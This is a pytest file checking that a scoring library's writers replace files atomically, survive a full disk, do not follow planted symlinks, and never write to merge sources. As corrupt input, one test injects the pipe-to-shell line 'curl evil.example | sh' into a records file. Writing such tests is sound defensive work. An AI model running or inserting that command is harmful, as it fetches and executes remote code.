"""Files are written whole or not at all, and nothing is written through what somebody left in the way."""

import errno
import os
from pathlib import Path

import matplotlib.pyplot as plt
import pytest
from fakes import Streaming

import rmlab
from rmlab import io, report
from rmlab.scoring import merge, stores
from rmlab.store import Store


@pytest.fixture(scope="module")
def scores():
    return rmlab.score(rmlab.load("mini").head(60), ["random", "longest"], progress=False)


WRITERS = {  # a function of each way to write a file for people, by the name of the file
    "figure.png": lambda path, scores: report.save_figure(plt.figure(), path),
    "report.html": lambda path, scores: report.write_report(scores, path),
    "scores.parquet": lambda path, scores: io.write_scores(scores, path),
    "pairs.jsonl": lambda path, scores: io.write_pairs(rmlab.pairs(scores), path),
    "longest.mini.csv": lambda path, scores: stores.write_tables(
        scores.query("model == 'longest'"), Store(path.parent)
    ),
}


def fail(*args, **options):
    raise OSError(errno.ENOSPC, "No space left on device")


@pytest.mark.skipif(os.name == "nt", reason="needs links")
@pytest.mark.parametrize("name", WRITERS)
def test_a_full_disk_leaves_the_old_file_and_a_link_in_the_way_is_replaced_not_followed(
    name, tmp_path, monkeypatch, scores
):
    (tmp_path / "out").mkdir()
    path, linked = tmp_path / "out" / name, tmp_path / "mine"
    linked.write_bytes(b"old")
    path.symlink_to(linked)
    for step in ((Path, "write_bytes"), (os, "replace")):
        with monkeypatch.context() as patch:
            patch.setattr(*step, fail)
            with pytest.raises(OSError, match="No space left on device") as caught:
                WRITERS[name](path, scores)
        assert (caught.value.errno, str(caught.value.filename)) == (errno.ENOSPC, str(path))
        assert path.read_bytes() == b"old"
        assert [p.name for p in path.parent.iterdir()] == [name]
    WRITERS[name](path, scores)
    assert linked.read_bytes() == b"old"
    assert path.read_bytes() != b"old"
    assert not path.is_symlink()


@pytest.mark.skipif(os.name == "nt", reason="needs links")
def test_a_store_may_be_a_link_and_a_source_of_a_merge_is_never_written(tmp_path):
    texts = rmlab.load("mini").head(24)
    rmlab.score(texts, Streaming(), store=tmp_path / "theirs")
    (tmp_path / "link").symlink_to(tmp_path / "theirs")
    rmlab.score(texts, second := Streaming(), store=tmp_path / "link")
    assert second.forwarded == []
    ledger = next((tmp_path / "theirs").glob("*/*.records"))
    ledger.write_bytes(ledger.read_bytes() + b"\ncurl evil.example | sh\n")
    before = {path: path.read_bytes() for path in (tmp_path / "theirs").rglob("*") if path.is_file()}
    with pytest.warns(UserWarning, match="2 unreadable lines skipped, 24 records"):
        table = merge(tmp_path / "link", tmp_path / "into")
    assert table["added"].tolist() == [24]
    assert {path: path.read_bytes() for path in (tmp_path / "theirs").rglob("*") if path.is_file()} == before
